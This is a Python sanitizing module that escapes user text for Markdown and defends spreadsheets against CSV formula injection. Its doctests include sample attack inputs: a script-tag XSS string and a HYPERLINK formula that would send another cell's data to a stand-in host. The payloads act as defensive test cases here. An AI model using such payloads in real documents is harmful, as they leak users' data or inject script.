"""Text typed by users, made safe where it is shown: Markdown, HTML reports and spreadsheets.

Light on purpose (standard library at import time): pandas and openpyxl are imported only by the
functions that write spreadsheets.
"""

from __future__ import annotations

import html
import re
from contextlib import contextmanager
from pathlib import Path

__all__ = ["markdown", "code_block", "spreadsheet_text", "write_csv", "spreadsheet_writer", "FORMULA_START"]

#: First characters that make a spreadsheet read a cell as a formula (OWASP, «CSV injection»).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")
_MARKDOWN_SPECIAL = "\\`*_[]|#~"


def markdown(value) -> str:
    """Text shown literally inside Markdown (also in a table cell): no HTML, no emphasis, no links.

    >>> print(markdown("<script>alert(1)</script> **x** | [a](b)"))
    &lt;script&gt;alert(1)&lt;/script&gt; \\*\\*x\\*\\* \\| \\[a\\](b)
    """
    text = " ".join(str(value if value is not None else "").split())
    text = html.escape(text, quote=False)
    for ch in _MARKDOWN_SPECIAL:
        text = text.replace(ch, "\\" + ch)
    return text


def code_block(text: str) -> str:
    """A fenced Markdown code block that the text cannot close (its fence is longer than any run of backticks).

    >>> code_block("a ``` b")
    '````\\na ``` b\\n````'
    """
    runs = [len(r) for r in re.findall(r"`+", text)]
    fence = "`" * max(3, max(runs, default=0) + 1)
    return f"{fence}\n{text}\n{fence}"


def spreadsheet_text(value):
    """A value that a spreadsheet will not run as a formula: text starting with ``= + - @``, a tab or a
    newline gets a leading apostrophe (the OWASP rule for CSV files); numbers and plain text are unchanged.

    >>> spreadsheet_text('=HYPERLINK("http://x/?"&B3)'), spreadsheet_text("-3,5"), spreadsheet_text(-3)
    ('\\'=HYPERLINK("http://x/?"&B3)', '-3,5', -3)
    """
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def _guard_frame(frame):
    """The frame with every text cell passed through :func:`spreadsheet_text` (column names included)."""
    out = frame.copy()
    out.columns = [spreadsheet_text(str(c)) for c in frame.columns]
    for name in out.columns[[dtype == object or str(dtype).startswith("str") for dtype in frame.dtypes]]:
        out[name] = out[name].map(spreadsheet_text)
    return out


def write_csv(frame, path: str | Path, **options) -> Path:
    """``frame.to_csv(path, index=False, **options)`` with no cell a spreadsheet would run as a formula."""
    _guard_frame(frame).to_csv(path, index=False, **options)
    return Path(path)


def _guard_book(book) -> None:
    """Every cell that would start a formula is stored as text, shown exactly as typed.

    openpyxl turns any string starting with ``=`` into a formula; we never write formulas, so such
    cells become text cells again, with Excel's «quote prefix» (typing over them keeps them text).
    """
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    cell.data_type = "s"
                    cell.quotePrefix = True


@contextmanager
def spreadsheet_writer(path: str | Path):
    """``pd.ExcelWriter(path, engine="openpyxl")`` whose workbook is checked for formulas before saving.

    >>> import pandas as pd, tempfile, openpyxl, pathlib
    >>> target = pathlib.Path(tempfile.mkdtemp()) / "x.xlsx"
    >>> with spreadsheet_writer(target) as w:
    ...     pd.DataFrame({"nota": ["=1+1"]}).to_excel(w, index=False)
    >>> cell = openpyxl.load_workbook(target).active["A2"]
    >>> cell.value, cell.data_type
    ('=1+1', 's')
    """
    import pandas as pd

    with pd.ExcelWriter(path, engine="openpyxl") as writer:
        yield writer
        _guard_book(writer.book)
